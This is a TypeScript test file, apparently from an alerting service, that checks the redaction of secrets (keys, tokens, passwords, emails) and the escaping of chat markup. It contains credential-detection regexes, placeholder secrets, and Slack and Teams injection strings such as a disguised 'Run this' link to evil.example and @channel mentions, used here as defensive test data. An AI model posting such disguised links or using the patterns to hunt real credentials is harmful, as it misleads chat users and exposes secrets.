    ['a mixed-case hex id stays', 'id 0f3A1b2C3d4E5f60718293a4B5c6D7e8F90a1B2c', 'id 0f3A1b2C3d4E5f60718293a4B5c6D7e8F90a1B2c'],
    ['a request id (UUID) stays', 'RequestId: 1b2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b Throttling', 'RequestId: 1b2c3d4e-5f60-4718-9a0b-1c2d3e4f5a6b Throttling'],
    ['a Lambda CodeSha256 (44 base64) stays', 'CodeSha256 qUz2DmwGHeyQn6ZKd8ZdmQt3JqmWlpF5cWtXLvsR09Q= deployed', 'CodeSha256 qUz2DmwGHeyQn6ZKd8ZdmQt3JqmWlpF5cWtXLvsR09Q= deployed'],
    ['an S3 extended request id (longer base64) stays', 'x-amz-id-2: Uuag1LuByRx9e6j5Onimru9pO4ZVKnJ2Qz7/C1NPcfTWAtRPfTaOFg7Ru8uJqAS7ZQ2fI1z2aD4=', 'x-amz-id-2: Uuag1LuByRx9e6j5Onimru9pO4ZVKnJ2Qz7/C1NPcfTWAtRPfTaOFg7Ru8uJqAS7ZQ2fI1z2aD4='],
    ['a 40-character segment of a hyphenated CDK name stays', 'function Notify-ConsumerServiceRoleDefaultPolicy4C3F8A1E-AbC1 failed', 'function Notify-ConsumerServiceRoleDefaultPolicy4C3F8A1E-AbC1 failed'],
    ['a 40-character word of one case stays', 'queue NOTIFICATIONSERVICEDEADLETTERQUEUE012345 full', 'queue NOTIFICATIONSERVICEDEADLETTERQUEUE012345 full'],
    ['a 39- and a 41-character key-like word stay', 'a wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE b wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEYS', 'a wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE b wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEYS'],
    // A label and its token glued by a run make 40 characters: the label's mask finds it with the run a space, so it is
    // that mask's (the join does not guess a bare key there): the label stays.
    ['a bearer label glued to a 34-character token', 'auth Bearer\u200babcdefghij0123456789ABCDEFGHIJ0123 ok', 'auth Bearer **** ok'],
    // Hidden too (the over-masking chosen): a 40-character word of both cases with a digit.
    ['a 40-character CDK logical id standing alone is hidden', 'resource ConsumerServiceRoleDefaultPolicy4C3F8A1E failed', 'resource [40-char key ****] failed'],
  ])('%s', (_case, raw, expected) => {
    expect(safeField(raw, 500)).toBe(expected);
  });

  const KEY_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/+';
  const of = (alphabet: string, length: number): fc.Arbitrary<string> => fc.string({ unit: fc.constantFrom(...alphabet), minLength: length, maxLength: length });
  const hex = '0123456789abcdef';
  /** [kind, the word, whether it is hidden]: keys drawn uniformly from their alphabet, and the ids that must stay. */
  const words: fc.Arbitrary<{ kind: string; text: string; hidden: boolean }> = fc.oneof(
    of(KEY_ALPHABET, 40).map((text) => ({ kind: 'secret key', text, hidden: /[a-z]/.test(text) && /[A-Z]/.test(text) && /[0-9/+]/.test(text) })),
    of(hex, 40).map((text) => ({ kind: 'commit id', text, hidden: false })),
    of(hex.toUpperCase(), 40).map((text) => ({ kind: 'upper-case sha-1', text, hidden: false })),
    fc.uuid().map((text) => ({ kind: 'request id', text, hidden: false })),
    of(hex, 64).map((text) => ({ kind: 'sha256', text, hidden: false })),
    of(KEY_ALPHABET, 43).map((text) => ({ kind: 'base64 digest', text: `${text}=`, hidden: false })),
    fc.tuple(fc.constantFrom(39, 41), fc.nat()).chain(([length]) => of(KEY_ALPHABET, length)).map((text) => ({ kind: 'not 40', text, hidden: false })),
    of(KEY_ALPHABET, 40).map((text) => ({ kind: 'name segment', text: `Stack-${text}-A1b2`, hidden: false })),
    // One condition short of a key: letters only (a name), no upper case, mixed-case hex.
    of(KEY_ALPHABET.slice(0, 52), 40).map((text) => ({ kind: 'letters only', text, hidden: false })),
    of(KEY_ALPHABET.slice(26), 40).map((text) => ({ kind: 'no upper case', text, hidden: false })),
    of('0123456789abcdefABCDEF', 40).map((text) => ({ kind: 'mixed-case hex', text, hidden: false })),
  );

  it('a word of every kind between two words: hidden exactly when it is a key, 1,000 generated', () => {
    const seen = new Map<string, { hidden: number; kept: number }>();
    let withSlashOrPlus = 0;
    fc.assert(
      fc.property(word, words, word, (before, { kind, text, hidden }, after) => {
        const tally = seen.get(kind) ?? { hidden: 0, kept: 0 };
        if (hidden) tally.hidden += 1;
        else tally.kept += 1;
        seen.set(kind, tally);
        if (kind === 'secret key' && /[/+]/.test(text)) withSlashOrPlus += 1;
        expect(safeField(`${before} ${text} ${after}`, 500)).toBe(`${before} ${hidden ? '[40-char key ****]' : text} ${after}`);
      }),
      { numRuns: 1_000, seed: 3500 },
    );
    // Every kind generated; keys with and without "/" or "+" (exact: the seed is fixed).
    expect(Object.fromEntries(seen)).toEqual(SPREAD_3500);
    expect(withSlashOrPlus).toBe(WITH_SLASH_OR_PLUS_3500);
  });
});

describe('escapeChat', () => {
  it.each([
    ['a Slack link that disguises its target', 'see <https://evil.example/run|Run this>', 'see &lt;https://evil.example/run|Run this&gt;'],
    ['a channel-wide mention in Slack syntax', 'disk full <!channel> <!here> <!subteam^S123>', 'disk full &lt;!channel&gt; &lt;!here&gt; &lt;!subteam^S123&gt;'],
    ['a user mention', 'ping <@U024BE7LH>', 'ping &lt;@U024BE7LH&gt;'],
    ['a bare @channel and @here', 'wake up @channel and @here', 'wake up @\u2060channel and @\u2060here'],
    ['an HTML entity that would decode to markup', 'a &lt;b&gt; c & d', 'a &amp;lt;b&amp;gt; c &amp; d'],
    ['a Markdown link (Teams)', 'click [Run this](https://evil.example)', 'click [Run this] (https://evil.example)'],
    ['a backtick that would close a code span', 'name` *bold*', "name' *bold*"],
  ])('makes %s inert', (_case, raw, expected) => {
    expect(escapeChat(raw)).toBe(expected);
  });

  it('leaves no raw "<", ">" or Slack mention in any of the attack strings', () => {
    const attacks = ['<https://evil|Run this>', '<!channel>', '<!everyone>', '<#C123|general>', '<mailto:a@b.c|mail>', '@everyone'];
    for (const attack of attacks) {
      const escaped = escapeChat(attack);
      expect(escaped).not.toMatch(/[<>]/);
      expect(escaped).not.toMatch(/@(channel|here|everyone)\b/);
    }
  });
});

// Decision 112: maskSecrets skips a pattern whose required text is not in the line, and bounded returns a string no
// longer than the bound in UTF-16 units without splitting it. The reference below is the code before that change, word
// for word: every generated line must come out the same through both.
describe('maskSecrets and bounded give what they gave before their fast paths (decision 112)', () => {
  const REFERENCE_MASKS: ReadonlyArray<[RegExp, string]> = [
    [/-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|$)/g, '[private key ****]'],
    [/\beyJ[\w-]{4,}\.eyJ[\w-]{4,}\.[\w-]*/g, '[jwt ****]'],
    [/\b(Bearer|Basic|Token)\s+[\w\-.~+/]{8,}=*/gi, '$1 ****'],
    [/\b(?:AKIA|ASIA|ABIA|ACCA|AGPA|AIDA|AIPA|ANPA|ANVA|AROA|APKA|ASCA)[A-Z0-9]{16}\b/g, '[aws key ****]'],
    [/\b(?:xox[abposr]-[\w-]{10,}|gh[pousr]_[A-Za-z0-9]{20,}|glpat-[\w-]{20,}|[sr]k_(?:live|test)_[A-Za-z0-9]{10,}|npm_[A-Za-z0-9]{30,}|AIza[\w-]{35})\b/g, '[token ****]'],
    [/\b([a-z][a-z0-9+.-]*:\/\/[^\s:/@]*):[^\s@/]+@/gi, '$1:****@'],
    [
      /((?:["']?)\b(?:aws_secret_access_key|aws_session_token|secret_?access_?key|session_?token|client_?secret|api[_-]?key|apikey|access[_-]?token|refresh[_-]?token|auth[_-]?token|x-api-key|token|secret|password|passwd|pwd|pass)\b["']?\s*[:=]\s*["']?)([^\s"',;&}]+)/gi,
      '$1****',
    ],
    [/\b[A-Za-z0-9._%+-]+@([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,})\b/g, '****@$1'],
  ];
  // Decision 355's bare secret key, no fast path: a 40-character word of both cases with a digit, "/" or "+", not all hex.
  const bareKey = (text: string): string =>
    text.replace(/(?<![A-Za-z0-9/+_-])[A-Za-z0-9/+]{40}(?![A-Za-z0-9/+=_-])/g, (w) => (/[a-z]/.test(w) && /[A-Z]/.test(w) && /[0-9/+]/.test(w) && !/^[0-9A-Fa-f]+$/.test(w) ? '[40-char key ****]' : w));
  const referenceMask = (text: string): string => bareKey(REFERENCE_MASKS.reduce((masked, [pattern, replacement]) => masked.replace(pattern, replacement), text));
  const referenceBounded = (text: string, maxChars: number): string => {
    const chars = Array.from(text);
    return chars.length <= maxChars ? text : `${chars.slice(0, Math.max(0, maxChars - 1)).join('')}…`;
  };
  const FRAGMENTS = [
    'Threshold Crossed: 1 datapoint [1523.0] > 1000.0',
    'arn:aws:sqs:us-east-1:123456789012:notification-service-queue',
    'postgres://notify_app:S3cr3t!pw@db.example.com:5432/notify',
    'jane.doe+alerts@example.org',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig_part',
    'eyJ-not-a-token',
    '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----',
    '-----BEGIN CERTIFICATE-----',
    // A JWT whose header starts {"typ" (eyJ0eXAi…), not {"alg" (eyJhbGci…), and the private keys that are not RSA:
    // the prefilter's required text must be 'eyJ' and '-----BEGIN ', not anything longer.
    'eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI1Njc4In0.typ_sig',
    '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG\n-----END PRIVATE KEY-----',
    '-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIAbcdEFGh\n-----END EC PRIVATE KEY-----',
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----',
    'Authorization: Bearer abc.def-ghi_jkl123456',
    'AKIAIOSFODNN7EXAMPLE',
    'password=hunter2;',
    'user@host',
    'a @ sign',
    '🚨 pager',
    '\u202Eeulav\u202C',
    ' ',
    '\n',
  ];

  it('600 generated lines mask the same as the reference, whether or not they hold "@", "eyJ" or "-----BEGIN "', () => {
    let seed = 108;
    const next = (n: number): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed % n;
    };
    const seen = { at: { absent: 0, present: 0 }, jwt: { absent: 0, present: 0 }, pem: { absent: 0, present: 0 }, changed: 0 };
    const kinds = ['eyJ0eXAi', '-----BEGIN PRIVATE KEY-----', '-----BEGIN EC PRIVATE KEY-----', '-----BEGIN OPENSSH PRIVATE KEY-----'];
    const linesWith = new Map(kinds.map((kind) => [kind, 0]));
    const count = (side: { absent: number; present: number }, present: boolean): void => {
      if (present) side.present += 1;
      else side.absent += 1;
    };
    for (let i = 0; i < 600; i += 1) {
      const line = Array.from({ length: 1 + next(5) }, () => FRAGMENTS[next(FRAGMENTS.length)]).join(next(2) ? ' ' : '');
      count(seen.at, line.includes('@'));
      count(seen.jwt, line.includes('eyJ'));
      count(seen.pem, line.includes('-----BEGIN '));
      for (const kind of kinds) if (line.includes(kind)) linesWith.set(kind, (linesWith.get(kind) ?? 0) + 1);
      const expected = referenceMask(line);
      if (expected !== line) seen.changed += 1;
      expect(maskSecrets(line)).toBe(expected);
      for (const bound of [1, 5, 40, 80]) expect(bounded(line, bound)).toBe(referenceBounded(line, bound));
    }
    // Both sides of every skip were generated, and most lines had something masked.
    // Both sides of every skip were generated, and most lines had something masked (exact: the generator is seeded).
    // 467 since decision 355 (466 before): one line glues fragments into a 40-character word hidden as a bare key.
    expect(seen).toEqual({ at: { absent: 326, present: 274 }, jwt: { absent: 375, present: 225 }, pem: { absent: 287, present: 313 }, changed: 467 });
    // Every JWT header and private-key kind that a longer required text would let through was generated.
    expect([...linesWith]).toEqual([
      ['eyJ0eXAi', 74],
      ['-----BEGIN PRIVATE KEY-----', 70],
      ['-----BEGIN EC PRIVATE KEY-----', 76],
      ['-----BEGIN OPENSSH PRIVATE KEY-----', 89],
    ]);
  });

  it('bounded at exactly the length in UTF-16 units, and one below, with astral characters', () => {
    const text = 'ab🚨🚨';
    expect(text.length).toBe(6);
    expect(bounded(text, 6)).toBe(text);
    expect(bounded(text, 4)).toBe(text);
    expect(bounded(text, 3)).toBe('ab…');
  });
});

describe('safeField computes a short text once per container, and gives what it gave without that (decision 308)', () => {
  const reference = (text: string, maxChars: number): string => bounded(maskSecrets(oneLine(text)), maxChars);

  it('the same text at two bounds: each bound applied to the one masked line, never the first call\'s cut', () => {
    const text = 'Authorization: Bearer abc.def-ghi_jkl123456 from\tjane.doe@example.org';
    expect(safeField(text, 10)).toBe('Authoriza…');
    expect(safeField(text, 200)).toBe('Authorization: Bearer **** from ****@example.org');
    expect(safeField(text, 10)).toBe(reference(text, 10));
    expect(safeField(undefined, 5)).toBe('');
  });

  it('texts at and past the memo\'s length are masked alike; only those up to MEMO_MAX_CHARS are kept, 256 of them (MEMO_TEXTS), then the memo is emptied', () => {
    expect([MEMO_MAX_CHARS, MEMO_TEXTS]).toEqual([512, 256]);
    // A fresh container's module: its memo starts empty, so every size below is exact.
    jest.isolateModules(() => {
      const fresh = jest.requireActual<typeof import('../../../shared/report/safe-text')>('../../../shared/report/safe-text');
      const secret = 'password=hunter2 ';
      const atBound = secret.padEnd(MEMO_MAX_CHARS, 'x');
      const pastBound = secret.padEnd(MEMO_MAX_CHARS + 1, 'x');
      let largest = 0;
      for (let i = 0; i < MEMO_TEXTS + 40; i += 1) {
        const text = `alarm ${i}: password=p${i} in\nline`;
        expect(fresh.safeField(text, 80)).toBe(reference(text, 80));
        expect(fresh.safeField(text, 80)).toBe(`alarm ${i}: password=**** in line`);
        // The i-th new text (0-based) is kept; the 257th empties the memo first.
        expect(fresh.safeFieldMemoSize()).toBe((i % MEMO_TEXTS) + 1);
        largest = Math.max(largest, fresh.safeFieldMemoSize());
      }
      expect(largest).toBe(256);
      // 296 texts: 256, emptied, then 40.
      expect(fresh.safeFieldMemoSize()).toBe(40);
      expect(fresh.safeField(pastBound, 40)).toBe(reference(pastBound, 40));
      expect(fresh.safeField(pastBound, 40)).toBe('password=**** xxxxxxxxxxxxxxxxxxxxxxxxx…');
      expect(fresh.safeFieldMemoSize()).toBe(40);
      expect(fresh.safeField(atBound, 40)).toBe(reference(atBound, 40));
      expect(fresh.safeFieldMemoSize()).toBe(41);
    });
  });

  it('a text is kept while fewer than 256 others were computed after it (a fresh container: the first field answered from the memo after 255 others)', () => {
    jest.isolateModules(() => {
      const fresh = jest.requireActual<typeof import('../../../shared/report/safe-text')>('../../../shared/report/safe-text');
      const environment = 'production token=abc123';
      expect(fresh.safeField(environment, 80)).toBe('production token=****');
      for (let i = 1; i < MEMO_TEXTS; i += 1) fresh.safeField(`field ${i}`, 80);
      expect(fresh.safeFieldMemoSize()).toBe(256);
      // Answered from the memo: nothing new kept.
      expect(fresh.safeField(environment, 80)).toBe('production token=****');
      expect(fresh.safeFieldMemoSize()).toBe(256);
      fresh.safeField('one more field', 80);
      expect(fresh.safeFieldMemoSize()).toBe(1);
    });
  });
});
